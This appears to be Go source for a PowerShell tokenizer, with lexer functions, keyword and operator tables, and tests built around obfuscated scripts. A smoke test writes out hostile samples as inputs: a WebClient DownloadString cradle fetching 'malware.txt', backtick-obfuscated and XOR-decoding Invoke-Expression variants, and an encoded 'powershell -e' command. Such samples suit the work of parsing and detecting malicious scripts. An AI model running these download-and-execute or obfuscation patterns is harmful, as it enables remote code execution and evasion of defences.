			l.pos++
		default:
			l.pos++
		}
	}
	l.fail(start, "unterminated double-quoted string")
}

// FindMatchingParen returns the index of the ')' matching the '(' at
// open, respecting nested parentheses, quotes and backtick escapes.
func FindMatchingParen(src string, open int) (int, bool) {
	depth := 0
	i := open
	for i < len(src) {
		switch src[i] {
		case '(':
			depth++
		case ')':
			depth--
			if depth == 0 {
				return i, true
			}
		case '\'':
			j := skipSingleQuoted(src, i)
			if j < 0 {
				return 0, false
			}
			i = j
			continue
		case '"':
			j := skipDoubleQuoted(src, i)
			if j < 0 {
				return 0, false
			}
			i = j
			continue
		case '`':
			i++ // skip escaped char
		}
		i++
	}
	return 0, false
}

// skipSingleQuoted returns the index one past the closing quote of the
// single-quoted string starting at i, or -1.
func skipSingleQuoted(src string, i int) int {
	i++ // opening quote
	for i < len(src) {
		if src[i] == '\'' {
			if i+1 < len(src) && src[i+1] == '\'' {
				i += 2
				continue
			}
			return i + 1
		}
		i++
	}
	return -1
}

// skipDoubleQuoted returns the index one past the closing quote of the
// double-quoted string starting at i, or -1.
func skipDoubleQuoted(src string, i int) int {
	i++ // opening quote
	for i < len(src) {
		switch src[i] {
		case '"':
			if i+1 < len(src) && src[i+1] == '"' {
				i += 2
				continue
			}
			return i + 1
		case '`':
			i++
		case '$':
			if i+1 < len(src) && src[i+1] == '(' {
				end, ok := FindMatchingParen(src, i+1)
				if !ok {
					return -1
				}
				i = end
			}
		}
		i++
	}
	return -1
}

func (l *lexer) lexAt(start int) {
	switch l.peek(1) {
	case '\'':
		l.lexHereString(start, '\'')
	case '"':
		l.lexHereString(start, '"')
	case '(':
		l.pos = start
		l.pushGroup(cArraySub, start, "@(", sStmtStart)
	case '{':
		l.pos = start
		l.pushGroup(cHash, start, "@{", sHash)
	default:
		if isIdentChar(l.peek(1)) {
			// Splatted variable @args.
			l.pos++
			nameStart := l.pos
			for l.pos < len(l.src) {
				r, size := l.runeAt(l.pos)
				if !isIdentChar(r) {
					break
				}
				l.pos += size
			}
			l.emit(Variable, start, l.src[nameStart:l.pos])
			l.state = l.afterOperand()
			return
		}
		l.pos++
		l.emit(Operator, start, "@")
	}
}

func (l *lexer) lexHereString(start int, quote byte) {
	// Skip @q then optional spaces, then require a newline.
	i := start + 2
	for i < len(l.src) && isSpace(rune(l.src[i])) {
		i++
	}
	if i >= len(l.src) || (l.src[i] != '\n' && l.src[i] != '\r') {
		// Not a here-string after all; emit @ and continue.
		l.pos = start + 1
		l.emit(Operator, start, "@")
		return
	}
	if l.src[i] == '\r' {
		i++
	}
	if i < len(l.src) && l.src[i] == '\n' {
		i++
	}
	bodyStart := i
	term := "\n" + string(quote) + "@"
	idx := strings.Index(l.src[bodyStart:], term)
	if idx < 0 {
		l.fail(start, "unterminated here-string")
		return
	}
	body := l.src[bodyStart : bodyStart+idx]
	body = strings.TrimSuffix(body, "\r")
	l.pos = bodyStart + idx + len(term)
	kind := SingleHereString
	if quote == '"' {
		kind = DoubleHereString
	}
	l.emitKind(String, start, body, kind, false)
	l.state = l.afterOperand()
}

func (l *lexer) lexDollar(start int) {
	switch next := l.peek(1); {
	case next == '(':
		l.pos = start
		l.pushGroup(cSubExpr, start, "$(", sStmtStart)
	case next == '{':
		end := strings.IndexByte(l.src[start+2:], '}')
		if end < 0 {
			l.fail(start, "unterminated braced variable")
			return
		}
		name := l.src[start+2 : start+2+end]
		l.pos = start + 2 + end + 1
		l.emit(Variable, start, name)
		l.state = l.afterOperand()
	case specialVariables[next]:
		l.pos = start + 2
		l.emit(Variable, start, string(next))
		l.state = l.afterOperand()
	case isIdentChar(next):
		l.pos = start + 1
		nameStart := l.pos
		for l.pos < len(l.src) {
			r, size := l.runeAt(l.pos)
			if !isVariableChar(r) {
				break
			}
			l.pos += size
		}
		name := l.src[nameStart:l.pos]
		// A trailing colon only belongs to the name for drive-qualified
		// variables like $env:; strip it otherwise.
		if strings.HasSuffix(name, ":") {
			name = name[:len(name)-1]
			l.pos--
		}
		l.emit(Variable, start, name)
		l.state = l.afterOperand()
	default:
		l.pos = start + 1
		l.emit(Unknown, start, "$")
	}
}

func (l *lexer) lexOpenBracket(start int) {
	switch l.state {
	case sPostfix:
		if l.attached() {
			l.pushGroup(cIndex, start, "[", sStmtStart)
			return
		}
		l.lexTypeLiteral(start)
	case sArgs:
		if l.attached() && (l.lastType == Variable || l.lastType == GroupEnd || l.lastType == Member) {
			l.pushGroup(cIndex, start, "[", sStmtStart)
			return
		}
		// A bracketed bare word argument such as [char]65.
		l.lexBracketedBareword(start)
	default:
		l.lexTypeLiteral(start)
	}
}

func (l *lexer) lexTypeLiteral(start int) {
	depth := 0
	i := start
	for i < len(l.src) {
		switch l.src[i] {
		case '[':
			depth++
		case ']':
			depth--
			if depth == 0 {
				l.pos = i + 1
				inner := l.src[start+1 : i]
				l.emit(TypeLiteral, start, stripTicks(inner))
				// After a type literal either :: follows (static member)
				// or an expression (cast); both are handled from sExpr.
				l.state = sExpr
				return
			}
		case '\n':
			l.fail(start, "unterminated type literal")
			return
		}
		i++
	}
	l.fail(start, "unterminated type literal")
}

func (l *lexer) lexBracketedBareword(start int) {
	depth := 0
	i := start
	for i < len(l.src) {
		c := l.src[i]
		if c == '[' {
			depth++
		} else if c == ']' {
			depth--
			if depth == 0 {
				i++
				break
			}
		} else if c == '\n' || c == ' ' || c == '\t' {
			break
		}
		i++
	}
	// Continue with any attached word characters.
	l.pos = i
	for l.pos < len(l.src) {
		r, size := l.runeAt(l.pos)
		if !isWordChar(r) && r != '[' && r != ']' {
			break
		}
		l.pos += size
	}
	l.emit(CommandArgument, start, l.src[start:l.pos])
}

func (l *lexer) lexColon(start int) {
	if l.peek(1) == ':' {
		l.pos = start + 2
		l.emit(Operator, start, "::")
		l.state = sMember
		return
	}
	if l.state == sStmtStart && isIdentChar(l.peek(1)) {
		l.pos = start + 1
		for l.pos < len(l.src) {
			r, size := l.runeAt(l.pos)
			if !isIdentChar(r) {
				break
			}
			l.pos += size
		}
		l.emit(LoopLabel, start, l.src[start+1:l.pos])
		return
	}
	l.pos = start + 1
	l.emit(Unknown, start, ":")
}

func (l *lexer) lexDot(start int) {
	next := l.peek(1)
	// Range operator.
	if next == '.' {
		l.pos = start + 2
		l.emit(Operator, start, "..")
		l.state = sExpr
		return
	}
	// Member access directly after an operand.
	if (l.state == sPostfix || l.state == sArgs || l.state == sHash) && l.attached() &&
		(isIdentChar(next) || next == '\'' || next == '"' || next == '$' || next == '(' || next == '`') {
		if l.lastType == Variable || l.lastType == GroupEnd || l.lastType == String ||
			l.lastType == Member || l.lastType == TypeLiteral || l.lastType == Number {
			l.pos = start + 1
			l.emit(Operator, start, ".")
			l.state = sMember
			return
		}
	}
	// Number like .5.
	if next >= '0' && next <= '9' && (l.state == sExpr || l.state == sStmtStart) {
		l.lexNumberOrWord(start)
		return
	}
	// Dot-source / call operator at statement start.
	if l.state == sStmtStart || l.state == sExpr || l.state == sCmdName {
		if next == ' ' || next == '\t' || next == '(' || next == '\'' || next == '"' || next == '$' {
			l.pos = start + 1
			l.emit(Operator, start, ".")
			l.state = sCmdName
			return
		}
	}
	// Otherwise part of a bare word such as .\run.ps1.
	l.lexWord(start)
}

func (l *lexer) lexDash(start int) {
	next := l.peek(1)
	switch {
	case next == '-':
		l.pos = start + 2
		l.emit(Operator, start, "--")
		return
	case next == '=':
		l.pos = start + 2
		l.emit(Operator, start, "-=")
		l.state = sStmtStart
		return
	case next >= '0' && next <= '9' || next == '.':
		if l.state == sPostfix {
			l.pos = start + 1
			l.emit(Operator, start, "-")
			l.state = sExpr
			return
		}
		l.lexNumberOrWord(start)
		return
	case isIdentChar(next) || next == '`':
		// A dash word: operator or parameter.
		l.pos = start + 1
		word, hadTicks := l.scanTickedIdent()
		op, unary := IsDashOperator(word)
		lower := strings.ToLower(word)
		switch l.state {
		case sArgs, sCmdName, sHash:
			// In argument mode dash words are parameters. A trailing
			// colon attaches the argument, e.g. -EncodedCommand:...
			if l.peek(0) == ':' {
				l.pos++
			}
			l.emitKind(CommandParameter, start, "-"+word, BareWord, hadTicks)
			l.state = sArgs
		case sPostfix:
			if op {
				l.emit(Operator, start, "-"+lower)
				l.state = sExpr
			} else {
				l.emitKind(CommandParameter, start, "-"+word, BareWord, hadTicks)
				l.state = sArgs
			}
		default:
			if op && unary {
				l.emit(Operator, start, "-"+lower)
				l.state = sExpr
			} else if op {
				l.emit(Operator, start, "-"+lower)
				l.state = sExpr
			} else {
				l.emitKind(CommandParameter, start, "-"+word, BareWord, hadTicks)
				l.state = sArgs
			}
		}
		return
	default:
		l.pos = start + 1
		l.emit(Operator, start, "-")
		l.state = sExpr
	}
}

// scanTickedIdent scans identifier characters allowing backtick escapes,
// returning the tick-stripped text.
func (l *lexer) scanTickedIdent() (string, bool) {
	// Tick-free identifiers (the overwhelming majority) come back as a
	// zero-copy slice of the source; a builder is materialized only on
	// the first backtick, seeded with the verbatim span so far.
	start := l.pos
	var sb strings.Builder
	hadTicks := false
	chunk := start
	for l.pos < len(l.src) {
		r, size := l.runeAt(l.pos)
		if r == '`' {
			r2, s2 := l.runeAt(l.pos + size)
			if s2 == 0 || !isIdentChar(r2) {
				break
			}
			sb.WriteString(l.src[chunk:l.pos])
			sb.WriteRune(r2)
			hadTicks = true
			l.pos += size + s2
			chunk = l.pos
			continue
		}
		if !isIdentChar(r) {
			break
		}
		l.pos += size
	}
	if !hadTicks {
		return l.src[start:l.pos], false
	}
	sb.WriteString(l.src[chunk:l.pos])
	return sb.String(), true
}

func (l *lexer) lexSimpleOperator(start int, r rune) {
	if l.state == sArgs && r != '>' && r != '<' {
		// In argument mode these characters begin bare words (*, %
		// wildcards, a=b, etc.).
		l.lexWord(start)
		return
	}
	if (l.state == sStmtStart || l.state == sCmdName) && (r == '%' || r == '*' || r == '?') {
		// % is the ForEach-Object alias, ? the Where-Object alias.
		l.lexWord(start)
		return
	}
	next := l.peek(1)
	switch r {
	case '+':
		if next == '+' {
			l.pos = start + 2
			l.emit(Operator, start, "++")
			return
		}
		if next == '=' {
			l.pos = start + 2
			l.emit(Operator, start, "+=")
			l.state = sStmtStart
			return
		}
		l.pos = start + 1
		l.emit(Operator, start, "+")
		l.state = sExpr
	case '*', '/', '%':
		if next == '=' {
			l.pos = start + 2
			l.emit(Operator, start, string(r)+"=")
			l.state = sStmtStart
			return
		}
		l.pos = start + 1
		l.emit(Operator, start, string(r))
		l.state = sExpr
	case '!':
		l.pos = start + 1
		l.emit(Operator, start, "!")
		l.state = sExpr
	case '=':
		if next == '=' {
			l.pos = start + 2
			l.emit(Operator, start, "==")
			l.state = sExpr
			return
		}
		l.pos = start + 1
		l.emit(Operator, start, "=")
		l.state = sStmtStart
	case '>':
		if next == '>' {
			l.pos = start + 2
			l.emit(Operator, start, ">>")
		} else {
			l.pos = start + 1
			l.emit(Operator, start, ">")
		}
		l.state = sArgs
	case '<':
		l.pos = start + 1
		l.emit(Operator, start, "<")
		l.state = sExpr
	}
}

// lexNumberOrWord scans a broad word and classifies it as a number if it
// parses as one, otherwise as a command/argument word for the state.
func (l *lexer) lexNumberOrWord(start int) {
	switch l.state {
	case sExpr, sStmtStart, sPostfix, sMember, sHash:
		if l.lexStrictNumber(start) {
			return
		}
	}
	l.lexWord(start)
}

// lexStrictNumber scans a numeric literal in expression position. It
// returns false (and resets) if the text is not a valid number.
func (l *lexer) lexStrictNumber(start int) bool {
	i := start
	if i < len(l.src) && (l.src[i] == '-' || l.src[i] == '+') {
		i++
	}
	numStart := i
	if i+1 < len(l.src) && l.src[i] == '0' && (l.src[i+1] == 'x' || l.src[i+1] == 'X') {
		i += 2
		hexStart := i
		for i < len(l.src) && isHexDigit(l.src[i]) {
			i++
		}
		if i == hexStart {
			return false
		}
	} else {
		digits := 0
		for i < len(l.src) && l.src[i] >= '0' && l.src[i] <= '9' {
			i++
			digits++
		}
		if i < len(l.src) && l.src[i] == '.' && (i+1 >= len(l.src) || l.src[i+1] != '.') {
			i++
			for i < len(l.src) && l.src[i] >= '0' && l.src[i] <= '9' {
				i++
				digits++
			}
		}
		if digits == 0 {
			return false
		}
		if i < len(l.src) && (l.src[i] == 'e' || l.src[i] == 'E') {
			j := i + 1
			if j < len(l.src) && (l.src[j] == '+' || l.src[j] == '-') {
				j++
			}
			expDigits := 0
			for j < len(l.src) && l.src[j] >= '0' && l.src[j] <= '9' {
				j++
				expDigits++
			}
			if expDigits > 0 {
				i = j
			}
		}
	}
	// Type suffix and multiplier.
	if i < len(l.src) && (l.src[i] == 'd' || l.src[i] == 'D' || l.src[i] == 'l' || l.src[i] == 'L') {
		i++
	}
	if i+1 < len(l.src) {
		m := strings.ToLower(l.src[i : i+2])
		switch m {
		case "kb", "mb", "gb", "tb", "pb":
			i += 2
		}
	}
	// The number must end at a non-word boundary.
	if i < len(l.src) {
		r, _ := l.runeAt(i)
		if isIdentChar(r) {
			return false
		}
	}
	_ = numStart
	l.pos = i
	l.emit(Number, start, l.src[start:i])
	l.state = l.afterOperand()
	return true
}

func isHexDigit(b byte) bool {
	return b >= '0' && b <= '9' || b >= 'a' && b <= 'f' || b >= 'A' && b <= 'F'
}

// lexWord scans a bare word (with backtick escapes) and classifies it
// according to the current state.
func (l *lexer) lexWord(start int) {
	l.pos = start
	// Same chunked strategy as the string lexers: tick-free words (the
	// common case) are zero-copy source slices; the builder exists
	// only once a backtick escape makes the content diverge.
	var sb strings.Builder
	hadTicks := false
	chunk := start
	narrow := l.state == sMember || l.state == sHash || l.state == sExpr || l.state == sPostfix
	for l.pos < len(l.src) {
		r, size := l.runeAt(l.pos)
		if r == '`' {
			r2, s2 := l.runeAt(l.pos + size)
			if s2 == 0 || r2 == '\n' || r2 == '\r' {
				break
			}
			sb.WriteString(l.src[chunk:l.pos])
			sb.WriteRune(r2)
			hadTicks = true
			l.pos += size + s2
			chunk = l.pos
			continue
		}
		if narrow {
			if !isIdentChar(r) {
				break
			}
		} else if !isWordChar(r) || r == '<' || r == '>' || r == '[' || r == ']' {
			break
		}
		l.pos += size
	}
	if l.pos == start {
		// Defensive: always make progress.
		_, size := l.runeAt(l.pos)
		l.pos += size
		l.emit(Unknown, start, l.src[start:l.pos])
		return
	}
	var word string
	if !hadTicks {
		word = l.src[start:l.pos]
	} else {
		sb.WriteString(l.src[chunk:l.pos])
		word = sb.String()
	}
	l.classifyWord(start, word, hadTicks)
}

func (l *lexer) classifyWord(start int, word string, hadTicks bool) {
	switch l.state {
	case sStmtStart, sCmdName:
		if l.state == sStmtStart && !l.afterPipe && IsKeyword(word) && !hadTicks {
			l.emitKeyword(start, word)
			return
		}
		if isNumberLiteral(word) {
			l.emit(Number, start, word)
			l.state = sPostfix
			return
		}
		l.emitKind(Command, start, word, BareWord, hadTicks)
		l.state = sArgs
	case sFunctionName:
		l.emitKind(CommandArgument, start, word, BareWord, hadTicks)
		l.state = sStmtStart
	case sArgs:
		if isNumberLiteral(word) {
			l.emit(Number, start, word)
			return
		}
		l.emitKind(CommandArgument, start, word, BareWord, hadTicks)
	case sMember:
		l.emitKind(Member, start, word, BareWord, hadTicks)
		l.state = sPostfix
	case sHash:
		l.emitKind(Member, start, word, BareWord, hadTicks)
	default:
		// Keywords also follow closed blocks (else, catch, finally,
		// while after do) and operands (in inside foreach).
		if IsKeyword(word) && !hadTicks {
			l.emitKeyword(start, word)
			return
		}
		l.emitKind(CommandArgument, start, word, BareWord, hadTicks)
		l.state = sPostfix
	}
}

func (l *lexer) emitKeyword(start int, word string) {
	l.emit(Keyword, start, strings.ToLower(word))
	switch strings.ToLower(word) {
	case "function", "filter", "workflow":
		l.state = sFunctionName
	case "in":
		l.state = sExpr
	default:
		l.state = sStmtStart
	}
}

// isNumberLiteral reports whether s is a complete PowerShell numeric
// literal.
func isNumberLiteral(s string) bool {
	if s == "" {
		return false
	}
	i := 0
	if s[i] == '-' || s[i] == '+' {
		i++
		if i == len(s) {
			return false
		}
	}
	if i+1 < len(s) && s[i] == '0' && (s[i+1] == 'x' || s[i+1] == 'X') {
		i += 2
		if i == len(s) {
			return false
		}
		for ; i < len(s); i++ {
			if !isHexDigit(s[i]) {
				return false
			}
		}
		return true
	}
	digits := 0
	for i < len(s) && s[i] >= '0' && s[i] <= '9' {
		i++
		digits++
	}
	if i < len(s) && s[i] == '.' {
		i++
		for i < len(s) && s[i] >= '0' && s[i] <= '9' {
			i++
			digits++
		}
	}
	if digits == 0 {
		return false
	}
	if i < len(s) && (s[i] == 'e' || s[i] == 'E') {
		i++
		if i < len(s) && (s[i] == '+' || s[i] == '-') {
			i++
		}
		expDigits := 0
		for i < len(s) && s[i] >= '0' && s[i] <= '9' {
			i++
			expDigits++
		}
		if expDigits == 0 {
			return false
		}
	}
	if i < len(s) && (s[i] == 'd' || s[i] == 'D' || s[i] == 'l' || s[i] == 'L') {
		i++
	}
	if i+2 == len(s) {
		switch strings.ToLower(s[i:]) {
		case "kb", "mb", "gb", "tb", "pb":
			i += 2
		}
	}
	return i == len(s)
}

// StripTicks removes backtick escapes from s (outside of strings).
func StripTicks(s string) string {
	return stripTicks(s)
}

// stripTicks removes backtick escapes from s (outside of strings).
func stripTicks(s string) string {
	if !strings.ContainsRune(s, '`') {
		return s
	}
	var sb strings.Builder
	sb.Grow(len(s))
	for i := 0; i < len(s); i++ {
		if s[i] == '`' && i+1 < len(s) {
			i++
			sb.WriteByte(s[i])
			continue
		}
		if s[i] != '`' {
			sb.WriteByte(s[i])
		}
	}
	return sb.String()
}
