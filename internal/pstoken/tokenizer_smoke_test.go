package pstoken

import "testing"

// TestSmokeDump is a development aid printing token streams for a few
// representative obfuscated inputs. It never fails; real assertions live
// in tokenizer_test.go.
func TestSmokeDump(t *testing.T) {
	inputs := []string{
		"(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')",
		"(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('https://test.com/malware.txt')",
		`Invoke-Expression (("{1}{0}" -f 'llo','he')).RepLACe('jYU',[STRiNg][CHar]39)`,
		`( '99S5i46' -SPLIT'~' -SPLit 'd' | fOrEAch-ObJECt{ [cHAR]($_ -BxoR'0x4B') })-jOiN'' |& ( $Env:coMSpEC[4,24,25]-JOiN'')`,
		"$a = 'x'; if ($a -eq 'x') { write-host hello } else { exit }",
		"foreach ($i in 1..10) { $s += $i }",
		"powershell -e aABlAGwAbABvAA==",
		". ($pshome[4]+$pshome[30]+'x') 'write-host hi'",
		"@{a = 1; b = 'two'}",
		"function foo($x) { return $x * 2 }",
		"\"value: $(1+2) and $env:USERNAME `\" done\"",
	}
	for _, in := range inputs {
		toks, err := Tokenize(in)
		if err != nil {
			t.Logf("INPUT %q -> error: %v", in, err)
			continue
		}
		t.Logf("INPUT %q", in)
		for _, tok := range toks {
			t.Logf("   %-18s %q", tok.Type, tok.Text)
		}
	}
}
