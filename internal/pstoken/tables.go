package pstoken

import "strings"

// keywords is the set of PowerShell language keywords, lower-cased.
var keywords = map[string]bool{
	"begin": true, "break": true, "catch": true, "class": true,
	"continue": true, "data": true, "define": true, "do": true,
	"dynamicparam": true, "else": true, "elseif": true, "end": true,
	"exit": true, "filter": true, "finally": true, "for": true,
	"foreach": true, "from": true, "function": true, "if": true,
	"in": true, "param": true, "process": true, "return": true,
	"switch": true, "throw": true, "trap": true, "try": true,
	"until": true, "using": true, "var": true, "while": true,
	"workflow": true,
}

// IsKeyword reports whether word is a PowerShell keyword (case-insensitive).
func IsKeyword(word string) bool {
	return keywords[strings.ToLower(word)]
}

// dashOperators is the set of operators written as a dash followed by a
// word, lower-cased without the dash. Values report whether the operator
// may be unary (prefix).
var dashOperators = map[string]bool{
	"eq": false, "ne": false, "gt": false, "ge": false, "lt": false,
	"le": false, "like": false, "notlike": false, "match": false,
	"notmatch": false, "contains": false, "notcontains": false,
	"in": false, "notin": false, "replace": false, "split": true,
	"join": true, "f": false, "and": false, "or": false, "xor": false,
	"not": true, "band": false, "bor": false, "bxor": false,
	"bnot": true, "shl": false, "shr": false, "is": false,
	"isnot": false, "as": false,
	// Case-sensitive and explicitly case-insensitive variants.
	"ceq": false, "cne": false, "cgt": false, "cge": false, "clt": false,
	"cle": false, "clike": false, "cnotlike": false, "cmatch": false,
	"cnotmatch": false, "ccontains": false, "cnotcontains": false,
	"cin": false, "cnotin": false, "creplace": false, "csplit": true,
	"ieq": false, "ine": false, "igt": false, "ige": false, "ilt": false,
	"ile": false, "ilike": false, "inotlike": false, "imatch": false,
	"inotmatch": false, "icontains": false, "inotcontains": false,
	"iin": false, "inotin": false, "ireplace": false, "isplit": true,
}

// IsDashOperator reports whether -word is an operator, and whether it can
// be used in prefix (unary) position.
func IsDashOperator(word string) (op, unary bool) {
	u, ok := dashOperators[strings.ToLower(word)]
	return ok, u
}

// isWordStart reports whether r can start a bare word.
func isWordStart(r rune) bool {
	switch {
	case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z':
		return true
	case r == '_', r == '\\', r == '/', r == '.', r == '~', r == '%', r == '?':
		return true
	case r > 127:
		return true
	}
	return false
}

// isWordChar reports whether r can continue a bare word (command or
// argument). Word characters deliberately exclude grouping and quoting
// characters and whitespace.
func isWordChar(r rune) bool {
	switch r {
	case ' ', '\t', '\r', '\n', '(', ')', '{', '}', ';', '|', '&',
		'\'', '"', '$', '#', ',', '`':
		return false
	}
	return true
}

// isIdentChar reports whether r is a plain identifier character.
func isIdentChar(r rune) bool {
	switch {
	case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9':
		return true
	case r == '_':
		return true
	case r > 127:
		return true
	}
	return false
}

// isVariableChar reports whether r may appear in an unbraced variable
// name (identifier characters plus the scope separator).
func isVariableChar(r rune) bool {
	return isIdentChar(r) || r == ':'
}

// specialVariables are single-character automatic variables such as $$,
// $?, $^ and $_.
var specialVariables = map[rune]bool{'$': true, '?': true, '^': true, '_': true}

// isSpace reports whether r is intraline whitespace.
func isSpace(r rune) bool {
	return r == ' ' || r == '\t' || r == '\f' || r == '\v' || r == 0xA0
}

// doubleQuoteEscapes maps backtick escape characters inside
// double-quoted strings to their values.
var doubleQuoteEscapes = map[rune]rune{
	'0': 0, 'a': 7, 'b': 8, 'e': 27, 'f': 12,
	'n': '\n', 'r': '\r', 't': '\t', 'v': 11,
	'`': '`', '\'': '\'', '"': '"', '$': '$',
}
