package pstoken

import "testing"

func TestSplattingAndLabels(t *testing.T) {
	toks, err := Tokenize("f @args")
	if err != nil {
		t.Fatal(err)
	}
	if toks[1].Type != Variable || toks[1].Content != "args" || toks[1].Text != "@args" {
		t.Errorf("splat token = %+v", toks[1])
	}
	toks, err = Tokenize(":outer while ($x) { break outer }")
	if err != nil {
		t.Fatal(err)
	}
	if toks[0].Type != LoopLabel || toks[0].Content != "outer" {
		t.Errorf("label token = %+v", toks[0])
	}
}

func TestLineContinuation(t *testing.T) {
	toks, err := Tokenize("write-host `\nhello")
	if err != nil {
		t.Fatal(err)
	}
	types := []Type{}
	for _, tok := range toks {
		types = append(types, tok.Type)
	}
	if types[0] != Command || types[1] != LineContinuation || types[2] != CommandArgument {
		t.Errorf("types = %v", types)
	}
}

func TestDoubleOperators(t *testing.T) {
	got := collect(t, "a && b || c")
	want := []string{"Command:a", "Operator:&&", "Command:b", "Operator:||", "Command:c"}
	if !equalStrings(got, want) {
		t.Errorf("got %v want %v", got, want)
	}
}

func TestRedirectionTokens(t *testing.T) {
	got := collect(t, "cmd > out.txt >> log.txt")
	want := []string{
		"Command:cmd", "Operator:>", "CommandArgument:out.txt",
		"Operator:>>", "CommandArgument:log.txt",
	}
	if !equalStrings(got, want) {
		t.Errorf("got %v want %v", got, want)
	}
}

func TestCompoundAssignOperators(t *testing.T) {
	for _, op := range []string{"+=", "-=", "*=", "/=", "%="} {
		toks, err := Tokenize("$a " + op + " 1")
		if err != nil {
			t.Fatalf("%s: %v", op, err)
		}
		if toks[1].Type != Operator || toks[1].Content != op {
			t.Errorf("%s token = %+v", op, toks[1])
		}
	}
}

func TestIncrementDecrement(t *testing.T) {
	got := collect(t, "$i++; $j--")
	want := []string{
		"Variable:i", "Operator:++", "StatementSeparator:;",
		"Variable:j", "Operator:--",
	}
	if !equalStrings(got, want) {
		t.Errorf("got %v want %v", got, want)
	}
}

func TestTypeString(t *testing.T) {
	if Command.String() != "Command" || TypeLiteral.String() != "Type" {
		t.Error("type names broken")
	}
	if Type(99).String() == "" {
		t.Error("unknown type panicked on String")
	}
}

func TestErrorMessage(t *testing.T) {
	_, err := Tokenize("'open")
	if err == nil {
		t.Fatal("expected error")
	}
	if e, ok := err.(*Error); !ok || e.Line != 1 {
		t.Errorf("error = %#v", err)
	}
}
