package pstoken

import (
	"strings"
	"testing"
	"testing/quick"
)

// collect tokenizes and returns "Type:Content" strings for significant
// tokens (no newlines).
func collect(t *testing.T, src string) []string {
	t.Helper()
	toks, err := Tokenize(src)
	if err != nil {
		t.Fatalf("Tokenize(%q): %v", src, err)
	}
	var out []string
	for _, tok := range toks {
		if tok.Type == NewLine {
			continue
		}
		out = append(out, tok.Type.String()+":"+tok.Content)
	}
	return out
}

func TestTokenizeCommands(t *testing.T) {
	tests := []struct {
		src  string
		want []string
	}{
		{"write-host hello", []string{"Command:write-host", "CommandArgument:hello"}},
		{"iex", []string{"Command:iex"}},
		{"Write-Host -NoNewline hi", []string{"Command:Write-Host", "CommandParameter:-NoNewline", "CommandArgument:hi"}},
		{"ls *.txt", []string{"Command:ls", "CommandArgument:*.txt"}},
		{"& 'iex' 'code'", []string{"Operator:&", "String:iex", "String:code"}},
		{"cmd | % { $_ }", []string{
			"Command:cmd", "Operator:|", "Command:%", "GroupStart:{",
			"Variable:_", "GroupEnd:}",
		}},
		{"powershell -e abc=", []string{"Command:powershell", "CommandParameter:-e", "CommandArgument:abc="}},
		{"echo 2 3", []string{"Command:echo", "Number:2", "Number:3"}},
	}
	for _, tt := range tests {
		got := collect(t, tt.src)
		if !equalStrings(got, tt.want) {
			t.Errorf("Tokenize(%q)\n got %v\nwant %v", tt.src, got, tt.want)
		}
	}
}

func TestTokenizeTicking(t *testing.T) {
	toks, err := Tokenize("i`e`x 'hi'")
	if err != nil {
		t.Fatal(err)
	}
	if toks[0].Type != Command || toks[0].Content != "iex" {
		t.Errorf("ticked command = %v (content %q)", toks[0].Type, toks[0].Content)
	}
	if !toks[0].HadTicks {
		t.Error("HadTicks not set")
	}
	if toks[0].Text != "i`e`x" {
		t.Errorf("raw text = %q", toks[0].Text)
	}
}

func TestTokenizeStrings(t *testing.T) {
	tests := []struct {
		src   string
		value string
		kind  StringKind
	}{
		{`'plain'`, "plain", SingleQuoted},
		{`'it''s'`, "it's", SingleQuoted},
		{`"double"`, "double", DoubleQuoted},
		{"\"tab`there\"", "tab\there", DoubleQuoted},
		{`"say ""hi"""`, `say "hi"`, DoubleQuoted},
		{"@'\nhere\nstring\n'@", "here\nstring", SingleHereString},
		{"@\"\nexpand $x\n\"@", "expand $x", DoubleHereString},
	}
	for _, tt := range tests {
		toks, err := Tokenize(tt.src)
		if err != nil {
			t.Errorf("Tokenize(%q): %v", tt.src, err)
			continue
		}
		if len(toks) == 0 || toks[0].Type != String {
			t.Errorf("Tokenize(%q): no string token: %v", tt.src, toks)
			continue
		}
		if toks[0].Content != tt.value {
			t.Errorf("Tokenize(%q) content = %q, want %q", tt.src, toks[0].Content, tt.value)
		}
		if toks[0].Kind != tt.kind {
			t.Errorf("Tokenize(%q) kind = %v, want %v", tt.src, toks[0].Kind, tt.kind)
		}
	}
}

func TestTokenizeSubexpressionInString(t *testing.T) {
	src := `"a $('quoted )string') b"`
	toks, err := Tokenize(src)
	if err != nil {
		t.Fatal(err)
	}
	if len(toks) != 1 || toks[0].Type != String {
		t.Fatalf("tokens = %v", toks)
	}
	if toks[0].Text != src {
		t.Errorf("string span = %q, want whole input", toks[0].Text)
	}
}

func TestTokenizeVariables(t *testing.T) {
	tests := []struct {
		src  string
		name string
	}{
		{"$a", "a"},
		{"$env:PATH", "env:PATH"},
		{"${weird name}", "weird name"},
		{"$global:x", "global:x"},
		{"$_", "_"},
		{"$$", "$"},
	}
	for _, tt := range tests {
		toks, err := Tokenize(tt.src)
		if err != nil {
			t.Fatalf("Tokenize(%q): %v", tt.src, err)
		}
		if toks[0].Type != Variable || toks[0].Content != tt.name {
			t.Errorf("Tokenize(%q) = %v %q, want Variable %q", tt.src, toks[0].Type, toks[0].Content, tt.name)
		}
	}
}

func TestTokenizeOperators(t *testing.T) {
	got := collect(t, `$a -bXoR 0x4B -f 2`)
	want := []string{"Variable:a", "Operator:-bxor", "Number:0x4B", "Operator:-f", "Number:2"}
	if !equalStrings(got, want) {
		t.Errorf("got %v want %v", got, want)
	}
}

func TestTokenizeTypeLiterals(t *testing.T) {
	got := collect(t, `[char[]]$x`)
	want := []string{"Type:char[]", "Variable:x"}
	if !equalStrings(got, want) {
		t.Errorf("got %v want %v", got, want)
	}
	got = collect(t, `[Text.Encoding]::Unicode`)
	want = []string{"Type:Text.Encoding", "Operator:::", "Member:Unicode"}
	if !equalStrings(got, want) {
		t.Errorf("got %v want %v", got, want)
	}
}

func TestTokenizeKeywordsVsAliases(t *testing.T) {
	// foreach is a keyword at statement start but a command after |.
	got := collect(t, "foreach ($i in $l) { }")
	if got[0] != "Keyword:foreach" {
		t.Errorf("statement-start foreach = %v", got[0])
	}
	got = collect(t, "$l | foreach { $_ }")
	found := false
	for _, g := range got {
		if g == "Command:foreach" {
			found = true
		}
	}
	if !found {
		t.Errorf("pipeline foreach not a command: %v", got)
	}
}

func TestTokenizeComments(t *testing.T) {
	got := collect(t, "write-host hi # trailing\n<# block\ncomment #>")
	want := []string{
		"Command:write-host", "CommandArgument:hi",
